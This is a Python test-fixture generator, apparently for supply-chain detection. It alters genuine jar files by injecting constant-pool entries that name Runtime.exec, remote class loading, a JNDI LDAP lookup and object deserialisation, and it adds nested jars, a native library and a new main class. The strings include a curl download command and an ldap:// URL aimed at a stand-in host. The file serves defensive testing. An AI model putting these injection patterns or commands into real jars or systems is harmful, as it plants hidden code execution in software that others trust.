"""Fourth set: jars; what is added to a class is named in its constants, and nothing calls it."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from genuine import Files

from mutation_families.third_systems import Built
from onionskin.lookalike.archives import build_zip
from onionskin.lookalike.elf import build_elf

NAMED = {
    "starts programs": (("java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;"), "sh -c 'curl -s https://inert.example.invalid/i'"),
    "loads classes": (("java/net/URLClassLoader", "newInstance", "([Ljava/net/URL;)Ljava/net/URLClassLoader;"), "https://inert.example.invalid/inert.jar"),
    "looks up names": (("javax/naming/InitialContext", "doLookup", "(Ljava/lang/String;)Ljava/lang/Object;"), "ldap://inert.example.invalid/a"),
    "reads objects": (("java/io/ObjectInputStream", "readObject", "()Ljava/lang/Object;"), "rO0ABXQABWluZXJ0"),
}  # fmt: skip


def with_constants(data: bytes, method: tuple[str, str, str], text: str) -> bytes:
    """Return a class whose constants name one more method, and one more text (JVMS 4.4)."""
    count = struct.unpack_from(">H", data, 8)[0]
    at, number = 10, 1
    while number < count:
        tag = data[at]
        sizes = {3: 5, 4: 5, 5: 9, 6: 9, 7: 3, 8: 3, 9: 5, 10: 5, 11: 5, 12: 5, 15: 4, 16: 3, 17: 5, 18: 5, 19: 3, 20: 3}  # fmt: skip
        at += 3 + struct.unpack_from(">H", data, at + 1)[0] if tag == 1 else sizes[tag]
        number += 2 if tag in {5, 6} else 1

    def utf8(value: str) -> bytes:
        return struct.pack(">BH", 1, len(value)) + value.encode()

    owner, name, kind = method
    more = utf8(owner) + struct.pack(">BH", 7, count) + utf8(name) + utf8(kind)
    more += struct.pack(">BHH", 12, count + 2, count + 3) + struct.pack(">BHH", 10, count + 1, count + 4)  # fmt: skip
    more += utf8(text) + struct.pack(">BH", 8, count + 6)
    return data[:8] + struct.pack(">H", count + 8) + data[10:at] + more + data[at:]


def jars(old: Files, new: Files) -> Iterator[Built]:
    """Change a genuine jar.

    A reviewer sees: a class that names what it did not (starts, loads, looks up); a second form of a class for newer machines;
    an archive or native code within; another first class.
    """
    manifest = "META-INF/MANIFEST.MF"
    text = new[manifest].rstrip()
    before = build_zip(old)
    honest_files = new | {manifest: text + b"\r\nImplementation-Build: p1\r\n\r\n"}
    honest = build_zip(honest_files)
    classes = sorted((name for name in new if name.endswith(".class") and "/" in name), key=lambda name: (-len(new[name]), name))  # fmt: skip

    def made(more: Files) -> bytes:
        return build_zip(honest_files | more)

    for number, (what, (method, address)) in enumerate(NAMED.items()):
        name = classes[number % len(classes)]
        yield "jar: a class begins to name", what, ".jar", before, honest, made({name: with_constants(new[name], method, address)})  # fmt: skip
    first, (method, address) = classes[0], NAMED["starts programs"]
    other = with_constants(new[first], method, address)
    multi = text + b"\r\nImplementation-Build: p1\r\nMulti-Release: true\r\n\r\n"
    yield "jar: a second form of a class", "for newer machines", ".jar", before, honest, made({manifest: multi, f"META-INF/versions/11/{first}": other})  # fmt: skip
    yield "jar: code within", "a jar", ".jar", before, honest, made({"META-INF/lib/inert.jar": build_zip({"inert/Inert.class": other})})  # fmt: skip
    yield "jar: code within", "a library", ".jar", before, honest, made({"native/linux-x64/libinert.so": build_elf(), first: with_constants(new[first], ("java/lang/System", "load", "(Ljava/lang/String;)V"), "/usr/lib/libinert.so")})  # fmt: skip
    main = text + b"\r\nImplementation-Build: p1\r\nMain-Class: inert.Inert\r\n\r\n"
    yield "jar: another first class", "new", ".jar", before, honest, made({manifest: main, "inert/Inert.class": other})  # fmt: skip
